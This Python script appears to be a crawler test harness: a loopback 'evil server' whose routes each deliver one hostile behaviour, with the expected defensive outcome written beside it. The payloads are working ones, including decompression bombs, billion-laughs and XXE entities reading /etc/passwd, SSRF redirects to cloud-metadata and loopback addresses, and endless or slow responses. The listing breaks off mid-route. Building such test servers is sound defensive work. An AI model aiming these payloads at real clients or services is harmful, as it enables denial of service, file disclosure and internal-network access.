#!/usr/bin/env python3
"""evil_server.py - one bad web server on loopback; each path is one bad behaviour.

Standard library only (brotli / zstandard bombs are used when those packages are
importable).  Single file, asyncio, raw sockets: nothing is "helped" by an HTTP
library, so every malformed byte reaches the client as written here.

    python evil_server.py --port 8099              # serve on 127.0.0.1:8099
    python evil_server.py --list                   # table of every path
    curl http://127.0.0.1:8099/_index              # the same as JSON
    curl http://127.0.0.1:8099/_log                # every request seen (for politeness asserts)
    curl -X POST http://127.0.0.1:8099/_reset      # forget the log and all counters

robots.txt differs by loopback address (all the same port):
    127.0.0.1 ok      127.0.1.1 500      127.0.1.2 403      127.0.1.3 never answers
    127.0.1.4 10 MB   127.0.1.5 disallow-all                127.0.1.6 crawl-delay 3
    127.0.1.7 garbage bytes               127.0.1.8 redirect loop
    127.0.1.9 404     127.0.1.10 429      127.0.1.11 redirects to another host's robots
    127.0.1.12 HTML page with status 200  127.0.1.13 UTF-8 BOM + CR only line ends
    127.0.1.14 resets the connection      127.0.1.15 a byte a second
    127.0.2.1-250 ok, so that each case of a suite can have a host, and with it a pace and a breaker, of its own

It is also an HTTP forward proxy for plain http (absolute-form requests), so a
crawler started with http_proxy=http://127.0.0.1:8099 can be shown ANY host name:
the path decides the behaviour, the host is whatever the test wants, and
/_log keeps it.  With --map HOST=PREFIX, "http://HOST/x" is served as "PREFIX/x".
"""
from __future__ import annotations

import argparse
import asyncio
import gzip
import html
import itertools
import json
import signal
import sys
import time
import zlib
from collections import Counter
from dataclasses import dataclass, field
from email.utils import formatdate
from typing import Awaitable, Callable
from urllib.parse import parse_qs, unquote, urlsplit

MiB = 1 << 20


# ------------------------------------------------------------------ plumbing
@dataclass
class Req:
    method: str
    target: str
    path: str
    query: dict[str, str]
    headers: dict[str, str]
    body: bytes
    peer: str
    local: str  # loopback address that was dialled
    port: int
    host: str
    rest: str = ""  # what followed the route's prefix
    w: asyncio.StreamWriter = field(repr=False, default=None)  # type: ignore[assignment]

    @property
    def base(self) -> str:
        return f"http://{self.host}"

    def q(self, name: str, default):
        return type(default)(self.query.get(name, default))


@dataclass
class Route:
    prefix: str
    group: str
    exact: bool
    fn: Callable[[Req], Awaitable[None]]
    doc: str
    expect: str


ROUTES: dict[str, Route] = {}
LOG: list[dict] = []
HITS: Counter = Counter()
MAP: dict[str, str] = {}
STOP = asyncio.Event()
ISOLATED = False  # True only with --any (netns.sh): then off-loopback targets are real, harmless addresses


def route(prefix: str, expect: str = "", exact: bool = True):
    """Register a behaviour.  `expect` says what a good crawler does with it."""

    def deco(fn):
        ROUTES[prefix] = Route(prefix, prefix.split("/")[1], exact, fn, (fn.__doc__ or "").strip(), expect)
        return fn

    return deco


async def send(w: asyncio.StreamWriter, data: bytes) -> None:
    w.write(data)
    await w.drain()


def head(status: str, headers: list[tuple[str, str]]) -> bytes:
    lines = [f"HTTP/1.1 {status}"] + [f"{k}: {v}" for k, v in headers] + ["Connection: close", "", ""]
    return "\r\n".join(lines).encode("latin-1", "replace")


async def reply(r: Req, body: bytes | str = b"", status="200 OK", ctype="text/html; charset=utf-8", extra=(), length=None):
    if isinstance(body, str):
        body = body.encode("utf-8", "surrogatepass")
    hdrs = [("Content-Length", str(len(body) if length is None else length))]
    if ctype:
        hdrs.insert(0, ("Content-Type", ctype))
    await send(r.w, head(status, hdrs + list(extra)) + (b"" if r.method == "HEAD" else body))


async def redirect(r: Req, to: str, status="302 Found"):
    await reply(r, b"", status, extra=[("Location", to)])


def page(title: str, body: str, head_extra: str = "", date="2023-11-20T10:00:00+07:00", lang="id") -> str:
    return (
        f'<!doctype html><html lang="{lang}"><head><meta charset="utf-8"><title>{title}</title>'
        f'<meta property="og:title" content="{html.escape(title)}">'
        f'<meta property="article:published_time" content="{date}">{head_extra}</head>'
        f'<body><nav><a href="/">Beranda</a> <a href="/disc/listing">Berita</a></nav>'
        f"<main><article><h1>{title}</h1>{body}</article></main><footer>Hak cipta</footer></body></html>"
    )


PARA = (
    "Badan Pelindungan Pekerja Migran Indonesia (BP2MI) melakukan pembinaan pegawai di Balai Pelayanan "
    "Pelindungan Pekerja Migran Indonesia (BP3MI) Nusa Tenggara Timur, di Kantor BP3MI NTT, Senin, 20 November "
    "2023. Deputi mengatakan pembinaan pegawai ini harus dioptimalkan karena merupakan tanggung jawab semua "
    "untuk menjaga semangat motivasi dan integritas. "
)
TITLE = "BP2MI Lakukan Pembinaan Pegawai di BP3MI NTT"


def paras(n: int) -> str:
    return "".join(f"<p>{PARA}Alinea ke-{i} membahas kinerja pegawai balai dan layanan kepada calon pekerja migran.</p>" for i in range(n))


def xml(r: Req, s: str | bytes, ctype="application/xml"):
    return reply(r, s, ctype=ctype)


def urlset(locs) -> str:
    return ('<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
            + "".join(f"<url><loc>{html.escape(u)}</loc><lastmod>2023-11-20</lastmod></url>" for u in locs) + "</urlset>")


def sitemapindex(locs) -> str:
    return ('<?xml version="1.0" encoding="UTF-8"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
            + "".join(f"<sitemap><loc>{html.escape(u)}</loc></sitemap>" for u in locs) + "</sitemapindex>")


def rss(items: str, pre: str = "") -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>{pre}<rss version="2.0"><channel><title>Berita</title><link>/</link>{items}</channel></rss>'


def item(title, link, guid=None, date="Mon, 20 Nov 2023 10:00:00 +0700") -> str:
    return f"<item><title>{html.escape(title)}</title><link>{html.escape(link)}</link><guid>{html.escape(guid or link)}</guid><pubDate>{date}</pubDate></item>"


INWARD = ("10.0.0.5", "169.254.169.254", "intranet.local", "rebind.example", "0xa9fea9fe", "2852039166", "0251.0376.0251.0376", "[::ffff:169.254.169.254]", "[::ffff:a00:5]", "10.5")

_cache: dict[str, bytes] = {}


def bomb(kind: str, mb: int) -> bytes:
    """`mb` MiB of zero-ish HTML compressed with `kind`, built in chunks (this process stays small)."""
    key = f"{kind}{mb}"
    if key in _cache:
        return _cache[key]
    chunk = (b"<p>" + b"A" * 60 + b"</p>") * (MiB // 67 + 1)
    chunk = chunk[:MiB]
    out = bytearray()
    if kind in ("gzip", "deflate"):
        c = zlib.compressobj(9, zlib.DEFLATED, 31 if kind == "gzip" else 15)
        for _ in range(mb):
            out += c.compress(chunk)
        out += c.flush()
    elif kind == "br":
        import brotli

        c = brotli.Compressor(quality=5, lgwin=24)
        for _ in range(mb):
            out += c.process(chunk)
        out += c.finish()
    elif kind == "zstd":
        try:
            from backports import zstd

            c = zstd.ZstdCompressor(level=3)
            for _ in range(mb):
                out += c.compress(chunk)
            out += c.flush()
        except ImportError:
            import zstandard

            c = zstandard.ZstdCompressor(level=3).compressobj()
            for _ in range(mb):
                out += c.compress(chunk)
            out += c.flush()
    _cache[key] = bytes(out)
    return _cache[key]


# ------------------------------------------------------------------ network
async def _bomb(r: Req, kind: str):
    try:
        body = await asyncio.to_thread(bomb, kind, r.q("mb", 1024))  # the others are served meanwhile
    except ImportError:
        return await reply(r, f"{kind} is not importable here", "501 Not Implemented")
    await reply(r, body, extra=[("Content-Encoding", kind)])


@route("/net/gzip-bomb", "response dropped at the size cap; RSS bounded; one logged reason; crawl goes on")
async def _(r):
    "gzip Content-Encoding, ?mb=1024 MiB when inflated"
    await _bomb(r, "gzip")


@route("/net/deflate-bomb", "as gzip-bomb")
async def _(r):
    "deflate bomb"
    await _bomb(r, "deflate")


@route("/net/br-bomb", "as gzip-bomb")
async def _(r):
    "brotli bomb"
    await _bomb(r, "br")


@route("/net/zstd-bomb", "as gzip-bomb")
async def _(r):
    "zstd bomb"
    await _bomb(r, "zstd")


@route("/net/double-gzip-bomb", "cap applies to every layer")
async def _(r):
    "gzip inside gzip: 'Content-Encoding: gzip, gzip'"
    await reply(r, gzip.compress(await asyncio.to_thread(bomb, "gzip", r.q("mb", 1024))), extra=[("Content-Encoding", "gzip, gzip")])


@route("/net/stealth-gzip-bomb", "not inflated by any later layer (trafilatura inflates by magic bytes!)")
async def _(r):
    "gzip bomb body with NO Content-Encoding and text/html: only code that sniffs magic bytes inflates it"
    await reply(r, await asyncio.to_thread(bomb, "gzip", r.q("mb", 1024)))


@route("/net/stealth-zstd-bomb", "as stealth-gzip-bomb")
async def _(r):
    "zstd magic, no Content-Encoding"
    await reply(r, await asyncio.to_thread(bomb, "zstd", r.q("mb", 1024)))


@route("/net/gzip-truncated", "recorded as a fetch error or kept and marked partial; never stored as a whole article")
async def _(r):
    "gzip stream cut in the middle, Content-Length consistent"
    z = gzip.compress(page(TITLE, paras(30)).encode())
    await reply(r, z[: len(z) // 2], extra=[("Content-Encoding", "gzip")])


@route("/net/gzip-lie", "error recorded, no crash")
async def _(r):
    "says gzip, body is plain HTML"
    await reply(r, page(TITLE, paras(5)), extra=[("Content-Encoding", "gzip")])


@route("/net/redirect-loop", "given up after the cap; one error row")
async def _(r):
    "302 to itself"
    await redirect(r, r.path)


@route("/net/redirect-infinite", "given up after the cap (each hop is a new URL)")
async def _(r):
    "302 to ?n=n+1 for ever"
    await redirect(r, f"/net/redirect-infinite?n={r.q('n', 0) + 1}")


@route("/net/redirect-to", "target host re-checked against allow list, robots and private ranges on every hop")
async def _(r):
    "302 to ?u=URL"
    await redirect(r, r.q("u", "/content/article"))


@route("/net/redirect-file", "refused, logged; nothing local read")
async def _(r):
    "302 to file:///etc/passwd"
    await redirect(r, "file:///etc/passwd")


@route("/net/redirect-metadata", "refused before a connection is tried")
async def _(r):
    "302 to the cloud metadata address (outside netns.sh: to 127.0.0.2, so that nothing ever leaves the machine)"
    await redirect(r, "http://169.254.169.254/net/secret" if ISOLATED else f"http://127.0.0.2:{r.port}/net/secret")


@route("/net/redirect-loopback", "refused (private range) unless the test allows loopback by name")
async def _(r):
    "302 to http://127.0.0.2:<port>/net/secret"
    await redirect(r, f"http://127.0.0.2:{r.port}/net/secret")


@route("/net/redirect-decimal-ip", "refused: same address in another spelling")
async def _(r):
    "302 to http://2130706434:<port>/net/secret (127.0.0.2 in decimal)"
    await redirect(r, f"http://2130706434:{r.port}/net/secret")


@route("/net/secret", "must never be in the corpus")
async def _(r):
    "an internal page an SSRF would steal"
    await reply(r, page("INTERNAL SECRET", "<p>INTERNAL-SECRET-9f2c do not index. " + PARA * 4 + "</p>"))


@route("/net/redirect-js", "refused")
async def _(r):
    "302 to javascript:alert(1)"
    await redirect(r, "javascript:alert(1)")


@route("/net/redirect-nolocation", "error row")
async def _(r):
    "302 without Location"
    await reply(r, b"", "302 Found")


@route("/net/meta-refresh-file", "refused")
async def _(r):
    "HTML meta refresh to file:///etc/passwd"
    await reply(r, '<html><head><meta http-equiv="refresh" content="0;url=file:///etc/passwd"></head></html>')


@route("/net/meta-refresh-loop", "given up after the cap")
async def _(r):
    "HTML meta refresh to itself with a counter"
    await reply(r, f'<html><head><meta http-equiv="refresh" content="0;url=/net/meta-refresh-loop?n={r.q("n", 0) + 1}"></head></html>')


@route("/net/slow-headers", "dropped by an overall deadline, others keep moving")
async def _(r):
    "a header byte a second, for ever"
    await send(r.w, b"HTTP/1.1 200 OK\r\nX-Slow: ")
    while True:
        await asyncio.sleep(1)
        await send(r.w, b"a")


@route("/net/slow-body", "dropped by an overall deadline (not only an idle one)")
async def _(r):
    "a body byte a second, ?n=3600 bytes"
    n = r.q("n", 3600)
    await send(r.w, head("200 OK", [("Content-Type", "text/html"), ("Content-Length", str(n))]))
    for _ in range(n):
        await asyncio.sleep(1)
        await send(r.w, b" ")


@route("/net/hang", "timeout, retried a bounded number of times")
async def _(r):
    "accepts the request and never answers"
    await asyncio.sleep(86400)


async def _endless(r: Req, chunked: bool):
    hdrs = [("Content-Type", "text/html; charset=utf-8")] + ([("Transfer-Encoding", "chunked")] if chunked else [])
    await send(r.w, head("200 OK", hdrs))
    block = (b"<p>" + PARA.encode() + b"</p>") * 200
    rate = r.q("mbps", 0)
    while True:
        await send(r.w, (f"{len(block):x}\r\n".encode() + block + b"\r\n") if chunked else block)
        if rate:
            await asyncio.sleep(len(block) / (rate * MiB))


@route("/net/endless-body", "cut at the size cap (or deadline), RSS bounded")
async def _(r):
    "no Content-Length, body never ends (?mbps=N to limit)"
    await _endless(r, False)


@route("/net/endless-chunked", "as endless-body")
async def _(r):
    "chunked body that never ends"
    await _endless(r, True)


@route("/net/endless-headers", "cut at a header cap, RSS bounded")
async def _(r):
    "header lines for ever"
    await send(r.w, b"HTTP/1.1 200 OK\r\n")
    for i in itertools.count():
        await send(r.w, b"".join(b"X-%d-%d: %s\r\n" % (i, j, b"v" * 200) for j in range(200)))


@route("/net/huge-header", "error row, no crash")
async def _(r):
    "one 1 MiB header line"
    await reply(r, page(TITLE, paras(5)), extra=[("X-Big", "v" * MiB)])


@route("/net/cookie-bomb", "cookies off, or capped; later requests not broken")
async def _(r):
    "500 cookies of 4 kB each"
    await reply(r, page(TITLE, paras(5)), extra=[("Set-Cookie", f"c{i}={'v' * 4000}; Path=/") for i in range(500)])


@route("/net/big", "dropped or parsed within the memory budget; never freezes the other sites")
async def _(r):
    "one honest HTML page of ?mb=50"
    one = paras(1).encode()
    await reply(r, b"<html><head><title>Besar</title></head><body><article>" + one * (r.q("mb", 50) * MiB // len(one)) + b"</article></body></html>")


@route("/net/big-declared", "refused from Content-Length alone, before reading")
async def _(r):
    "Content-Length: 10 GB, then a trickle"
    await send(r.w, head("200 OK", [("Content-Type", "text/html"), ("Content-Length", str(10**10))]))
    while True:
        await send(r.w, b"x" * 1000)
        await asyncio.sleep(0.5)


@route("/net/short-body", "partial: error row or stored with a partial flag, never as whole")
async def _(r):
    "Content-Length bigger than what is sent, then close"
    b = page(TITLE, paras(20)).encode()
    await reply(r, b[: len(b) // 2], length=len(b))


@route("/net/long-body", "no request smuggling into the next response")
async def _(r):
    "Content-Length smaller than what is sent"
    b = page(TITLE, paras(20)).encode()
    await reply(r, b, length=len(b) // 2)


@route("/net/chunk-cut", "partial, as short-body")
async def _(r):
    "chunked body cut without its last chunk"
    b = page(TITLE, paras(20)).encode()[:3000]
    await send(r.w, head("200 OK", [("Content-Type", "text/html"), ("Transfer-Encoding", "chunked")]) + f"{len(b):x}\r\n".encode() + b + b"\r\n")


@route("/net/reset", "retried, then an error row")
async def _(r):
    "TCP reset in the middle of the body"
    await send(r.w, head("200 OK", [("Content-Type", "text/html"), ("Content-Length", "100000")]) + b"<p>x")
    import socket
    import struct

    s = r.w.get_extra_info("socket")
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    r.w.transport.abort()


@route("/net/close", "retried, then an error row")
async def _(r):
    "closes without a byte"


@route("/net/garbage", "error row")
async def _(r):
    "answer is not HTTP"
    await send(r.w, bytes(range(256)) * 64)


@route("/net/bad-status", "error row")
async def _(r):
    "status line without a number"
    await send(r.w, b"HTTP/1.1 OK fine\r\nContent-Length: 2\r\n\r\nok")


@route("/net/status", "stored only for 200; each class counted")
async def _(r):
    "any ?code= with an article as body"
    await reply(r, page(TITLE, paras(5)), f"{r.q('code', 418)} Whatever")


@route("/net/429", "waits at least Retry-After for that host before the next request; others keep moving")
async def _(r):
    "429 with Retry-After: ?s=5, then 200 after that much time has really passed"
    s, key = r.q("s", 5), "429" + r.host
    now = time.time()
    first = HITS.get(key) or now
    HITS.setdefault(key, first)
    if now - first >= s:
        return await reply(r, page(TITLE, paras(5)))
    await reply(r, b"slow down", "429 Too Many Requests", extra=[("Retry-After", str(s))])


@route("/net/503-date", "as 429 with an HTTP date")
async def _(r):
    "503 with Retry-After as a date 10 s ahead"
    await reply(r, b"", "503 Service Unavailable", extra=[("Retry-After", formatdate(time.time() + 10, usegmt=True))])


@route("/net/503-absurd", "capped: does not sleep for a year, gives the host up for this run")
async def _(r):
    "503 with Retry-After: 31536000"
    await reply(r, b"", "503 Service Unavailable", extra=[("Retry-After", "31536000")])


@route("/net/503-always", "bounded retries, host breaker opens, exit status tells")
async def _(r):
    "503 for ever"
    await reply(r, b"", "503 Service Unavailable")


@route("/net/flaky", "stored once, after retries")
async def _(r):
    "fails ?n=2 times per ?id=, then an article"
    key = "flaky" + r.q("id", "0")
    HITS[key] += 1
    if HITS[key] <= r.q("n", 2):
        return await reply(r, b"", "503 Service Unavailable")
    await reply(r, page(TITLE, paras(5)))


@route("/net/401", "not retried, no credentials sent")
async def _(r):
    "401 Basic"
    await reply(r, b"", "401 Unauthorized", extra=[("WWW-Authenticate", 'Basic realm="x"')])


@route("/net/204", "no article, no crash")
async def _(r):
    "204 with nothing"
    await send(r.w, b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")


@route("/net/304", "treated as unchanged: the stored version stays")
async def _(r):
    "304 whatever was asked"
    await send(r.w, b"HTTP/1.1 304 Not Modified\r\nConnection: close\r\n\r\n")


# ---------------------------------------------------------------- discovery
@route("/disc/sitemap-lol.xml", "no expansion; refused or ignored; RSS flat")
async def _(r):
    "billion laughs in a sitemap"
    ents = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10))
    await xml(r, f'<?xml version="1.0"?><!DOCTYPE u [{ents}]><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>{r.base}/content/article?&l9;</loc></url></urlset>')


@route("/disc/sitemap-quad.xml", "as sitemap-lol")
async def _(r):
    "quadratic blow-up: one 100 kB entity used 10,000 times"
    await xml(r, f'<?xml version="1.0"?><!DOCTYPE u [<!ENTITY a "{"a" * 100000}">]><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>{r.base}/x?{"&a;" * 10000}</loc></url></urlset>')


@route("/disc/sitemap-xxe.xml", "file not read; no request to /disc/xxe-ping")
async def _(r):
    "external entities: file:///etc/passwd and an http ping"
    await xml(r, f'<?xml version="1.0"?><!DOCTYPE u [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "{r.base}/disc/xxe-ping">]><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>{r.base}/content/article?x=&f;&h;</loc></url></urlset>')


@route("/disc/xxe-ping", "never requested")
async def _(r):
    "hit = the XML parser fetched an external entity"
    await reply(r, "PING", ctype="text/plain")


@route("/disc/sitemap-loop-a.xml", "each sitemap read once")
async def _(r):
    "index A -> B"
    await xml(r, sitemapindex([f"{r.base}/disc/sitemap-loop-b.xml", f"{r.base}/disc/sitemap-loop-a.xml"]))


@route("/disc/sitemap-loop-b.xml", "each sitemap read once")
async def _(r):
    "index B -> A"
    await xml(r, sitemapindex([f"{r.base}/disc/sitemap-loop-a.xml"]))


@route("/disc/sitemap-infinite.xml", "bounded by a cap on nested / total sitemaps")
async def _(r):
    "index -> index?n+1 for ever (all URLs differ), two children each"
    n = r.q("n", 0)
    await xml(r, sitemapindex([f"{r.base}/disc/sitemap-infinite.xml?n={2 * n + 1}", f"{r.base}/disc/sitemap-infinite.xml?n={2 * n + 2}"]))


@route("/disc/sitemap-local.xml", "only http(s) on allowed hosts is followed")
async def _(r):
    "locs: file:, ftp:, data:, javascript:, 127.0.0.2, metadata, off-site"
    await xml(r, urlset(["file:///etc/passwd", "ftp://127.0.0.1/x", "data:text/html,<h1>x</h1>", "javascript:alert(1)",
                         f"http://127.0.0.2:{r.port}/net/secret", *(["http://169.254.169.254/net/secret"] if ISOLATED else []), "http://evil.example/a", f"{r.base}/content/article?from=sm"]))


@route("/disc/sitemap-huge.xml", "streamed or capped, queue bounded")
async def _(r):
    "?n=200000 locs"
    await xml(r, urlset(f"{r.base}/content/article?i={i}" for i in range(r.q("n", 200000))))


@route("/disc/sitemap-bomb.xml.gz", "dropped at the size cap")
async def _(r):
    "a gzip file bomb as application/gzip (?mb=1024)"
    await reply(r, await asyncio.to_thread(bomb, "gzip", r.q("mb", 1024)), ctype="application/gzip")


@route("/disc/sitemap-cut.xml", "the complete locs are used, the cut is reported")
async def _(r):
    "sitemap cut in the middle of a tag"
    s = urlset([f"{r.base}/content/article?cut={i}" for i in range(50)])
    await xml(r, s[: len(s) * 2 // 3])


@route("/disc/sitemap-html.xml", "reported as 'not a sitemap', exit status tells")
async def _(r):
    "an HTML page where the sitemap should be"
    await reply(r, page("Halaman tidak ditemukan", "<p>Maaf</p>"))


@route("/disc/sitemap-empty.xml", "reported; 0 URLs is not silent success")
async def _(r):
    "a sitemap of 0 bytes"
    await xml(r, b"")


@route("/disc/sitemap-nolocs.xml", "reported; 0 URLs is not silent success")
async def _(r):
    "a valid sitemap with no url"
    await xml(r, urlset([]))


@route("/disc/sitemap-inward.xml", "no request to an address inside: not one of them is asked, each has its row")
async def _(r):
    "locs on an intranet, cloud metadata and names that lead there (for netns.sh)"
    await xml(r, urlset([*(f"http://{h}/content/article?x={i}" for i, h in enumerate(INWARD)), f"{r.base}/content/article?ok=1"]))


@route("/disc/rss-inward.xml", "as sitemap-inward")
async def _(r):
    "the same in a feed"
    await xml(r, rss("".join(item("x", f"http://{h}/content/article?x={i}") for i, h in enumerate(INWARD)) + item("ok", f"{r.base}/content/article?ok=1")), "application/rss+xml")


@route("/disc/refresh-inward", "not followed")
async def _(r):
    "a meta refresh to cloud metadata (for netns.sh)"
    await reply(r, '<html><head><meta http-equiv="refresh" content="0;url=http://169.254.169.254/net/secret"></head></html>')


@route("/disc/rss-js.xml", "bad schemes dropped; 1 good article")
async def _(r):
    "RSS with javascript:, data:, file:, relative and one good link"
    await xml(r, rss(item("<script>alert(1)</script>", "javascript:alert(1)") + item("d", "data:text/html,<b>x</b>") + item("f", "file:///etc/passwd")
                     + item("rel", "/content/article?rel=1") + item("ok", f"{r.base}/content/article?ok=1")), "application/rss+xml")


@route("/disc/rss-xxe.xml", "as sitemap-xxe")
async def _(r):
    "RSS with external entities"
    await xml(r, rss(item("x", f"{r.base}/content/article?rx=1").replace("<title>x", "<title>&f;&h;"),
                     f'<!DOCTYPE rss [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "{r.base}/disc/xxe-ping">]>'), "application/rss+xml")


@route("/disc/rss-lol.xml", "as sitemap-lol")
async def _(r):
    "RSS billion laughs"
    ents = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10))
    await xml(r, rss("<item><title>&l9;</title><link>/content/article</link></item>", f"<!DOCTYPE rss [{ents}]>"), "application/rss+xml")


@route("/disc/rss-dup.xml", "one article")
async def _(r):
    "same guid under 10 URLs"
    await xml(r, rss("".join(item("x", f"{r.base}/content/article?utm_source=rss{i}", guid="same") for i in range(10))), "application/rss+xml")


@route("/disc/rss-html-latin1.xml", "decoded right (declared windows-1252)")
async def _(r):
    "RSS declared and sent as windows-1252, title with curly quotes"
    await reply(r, rss(item("X", f"{r.base}/content/article?w=1")).replace("UTF-8", "windows-1252").replace(">X<", ">“BP2MI” – Rp1.000<").encode("cp1252"), ctype="application/rss+xml")


@route("/disc/calendar/", "bounded by a depth / per-host page budget, reported", exact=False)
async def _(r):
    "an archive calendar with a next month for ever"
    try:
        y, m = (int(x) for x in r.rest.strip("/").split("/")[:2])
    except ValueError:
        y, m = 2023, 11
    ny, nm = (y + 1, 1) if m == 12 else (y, m + 1)
    py, pm = (y - 1, 12) if m == 1 else (y, m - 1)
    await reply(r, page(f"Arsip {y}-{m}", f'<a href="/disc/calendar/{ny}/{nm}">berikut</a> <a href="/disc/calendar/{py}/{pm}">sebelum</a> <a href="/content/article">berita</a>'))


@route("/disc/next", "bounded; stops when a page brings nothing new")
async def _(r):
    "'next page' for ever, always the same two articles"
    n = r.q("page", 1)
    await reply(r, page(f"Berita hal {n}", f'<a href="/content/article?a=1">A</a><a href="/content/article?a=2">B</a><a rel="next" href="/disc/next?page={n + 1}">berikut</a>'))


@route("/disc/session", "one article: session ids dropped from the key")
async def _(r):
    "each view gives every link a new sid / PHPSESSID / jsessionid"
    n = HITS["sid"] = HITS["sid"] + 1
    await reply(r, page("Daftar", f'<a href="/disc/session?sid={n:08x}">daftar</a><a href="/content/article?PHPSESSID={n:08x}">A</a><a href="/content/article;jsessionid={n:08X}">A</a>'))


@route("/disc/utm", "one fetch, one article")
async def _(r):
    "one article under 12 tracking spellings"
    p = "/content/article"
    v = ["", "?utm_source=fb&utm_medium=social", "?fbclid=IwAR1", "?gclid=x", "?utm_campaign=z#komentar", "?ref=home", "?page=all", "?single=1", "?from=whatsapp", "/", "?amp=1", "?_ga=1.2"]
    await reply(r, page("Daftar", "".join(f'<a href="{p}{x}">A</a>' for x in v)))


@route("/disc/twins", "one article, the canonical URL kept, the others as aliases")
async def _(r):
    "desktop, mobile, amp and print twins of one article"
    await reply(r, page("Daftar", "".join(f'<a href="/content/twin/{k}/pembinaan-pegawai">{k}</a>' for k in ("www", "m", "amp", "print"))))


@route("/content/twin/", "see /disc/twins", exact=False)
async def _(r):
    "twin of one article with rel=canonical to /content/twin/www/..."
    await reply(r, page(TITLE, paras(6), f'<link rel="canonical" href="{r.base}/content/twin/www/pembinaan-pegawai">'))


@route("/disc/relative-trap/", "bounded by depth / path-repeat rule", exact=False)
async def _(r):
    "relative links that grow: a/ -> a/a/ -> a/a/a/"
    await reply(r, page("Jebakan", '<a href="a/">a</a> <a href="b/">b</a>'))


@route("/disc/facets", "bounded by per-host budget")
async def _(r):
    "filters that combine: 2^20 URLs"
    on = set(filter(None, r.q("f", "").split("-")))
    await reply(r, page("Saring", "".join(f'<a href="/disc/facets?f={"-".join(sorted(on ^ {str(i)}))}">{i}</a>' for i in range(20))))


@route("/disc/links", "only http(s) links on allowed hosts scheduled; none crash the parser")
async def _(r):
    "bad links: schemes, ports, userinfo, IPv6, IDN, spaces, NUL, 100 kB URL"
    bad = ["javascript:alert(1)", "mailto:a@b.id", "tel:021", "data:text/html,x", "file:///etc/passwd", "http://", "http://[::1", "http://user:pw@evil.example/",
           "http://127.0.0.1:99999/", "http://berita.bp2mi.go.id@evil.example/x", "//evil.example/x", "http://xn--80ak6aa92e.com/", "/content/a b", "/content/%00", "/content/%zz", "?" + "q" * 100000, "#", "", "http:/\\evil.example", "\\\\evil.example\\x", "HTTP://LOCALHOST/"]
    await reply(r, page("Tautan", "".join(f'<a href="{html.escape(b)}">x</a>' for b in bad) + '<a href="/content/article?good=1">baik</a>'))


@route("/disc/honeypot", "hidden / nofollow link not followed (or counted)")
async def _(r):
    "display:none and rel=nofollow links to /disc/honeypot-hit"
    await reply(r, page("X", '<a style="display:none" href="/disc/honeypot-hit">x</a><a rel="nofollow" href="/disc/honeypot-hit">y</a><a href="/content/article">z</a>'))


@route("/disc/honeypot-hit", "not requested")
async def _(r):
    "a trap for bad bots"
    await reply(r, "caught", "403 Forbidden")


@route("/disc/listing", "20 articles, once each")
async def _(r):
    "an honest listing: ?n=20 distinct articles (baseline)"
    n = r.q("n", 20)
    await reply(r, page("Berita", "".join(f'<p><a href="/content/numbered?id={i}">Berita {i}</a></p>' for i in range(n))))


@route("/disc/pages", "every article once, whenever the client is killed")
async def _(r):
    "an honest listing of ?n=1500 articles in pages of 50 (benchmarks/kill.py)"
    n, page_no = r.q("n", 1500), r.q("page", 1)
    ids = range((page_no - 1) * 50, min(n, page_no * 50))
    await reply(r, page(f"Berita hal {page_no}", "".join(f'<p><a href="/content/numbered?id={i}">article {i}</a></p>' for i in ids)))


@route("/disc/listing-empty", "run says 'site gave 0 links' and exits non-zero")
async def _(r):
    "a listing whose markup changed: no article links at all"
    await reply(r, page("Berita", "<div id=app></div><script src=/app.js></script>"))


@route("/disc/search-empty", "'found nothing' in the ledger, exit status 0")
async def _(r):
    "a search that works and has no hit"
    await reply(r, page("Hasil pencarian", "<form action=/cari><input name=q></form><p>Tidak ada hasil untuk pencarian Anda.</p>"))


@route("/disc/soft404/", "not stored (or stored as status=soft404)", exact=False)
async def _(r):
    "200 'halaman tidak ditemukan' for anything"
    await reply(r, page("Halaman Tidak Ditemukan", "<p>Maaf, halaman tidak ditemukan. Halaman yang Anda cari tidak tersedia atau telah dipindahkan. Silakan kembali ke beranda atau gunakan kolom pencarian untuk menemukan berita lain dari kami.</p>"))


# ------------------------------------------------------------------ content
@route("/content/article", "stored once, whole", exact=False)
async def _(r):
    "the good baseline article (any suffix or query gives the same)"
    await reply(r, page(TITLE, paras(6)))


@route("/content/numbered", "stored once, whole")
async def _(r):
    "a distinct good article per ?id="
    i = r.q("id", 0)
    await reply(r, page(f"{TITLE} bagian {i}", f"<p>Nomor {i} UNIK{i}X.</p>" + "".join(f"<p>Berita {i}, alinea {j}: {PARA}</p>" for j in range(5))))


@route("/content/empty", "not stored as an article; counted as 'no text'")
async def _(r):
    "title but no body"
    await reply(r, page(TITLE, ""))


@route("/content/zero", "counted as 'no text'")
async def _(r):
    "200 with 0 bytes"
    await reply(r, b"")


@route("/content/words", "stored whole or refused with a reason; time bounded")
async def _(r):
    "an article of ?n=200000 words"
    k = r.q("n", 200000) // len(PARA.split()) + 1
    await reply(r, page(TITLE, "".join(f"<p>{PARA}{i}</p>" for i in range(k))))


@route("/content/deep", "time and stack bounded")
async def _(r):
    "?n=50000 nested <div>"
    n = r.q("n", 50000)
    await reply(r, page(TITLE, "<div>" * n + paras(5) + "</div>" * n))


@route("/content/wide", "time bounded")
async def _(r):
    "?n=200000 sibling <span> in one <p>"
    await reply(r, page(TITLE, "<p>" + "<span>kata </span>" * r.q("n", 200000) + "</p>" + paras(5)))


@route("/content/attrs", "time bounded")
async def _(r):
    "one element with ?n=100000 attributes"
    await reply(r, page(TITLE, "<p " + " ".join(f"a{i}=1" for i in range(r.q("n", 100000))) + ">x</p>" + paras(5)))


@route("/content/redos", "time bounded")
async def _(r):
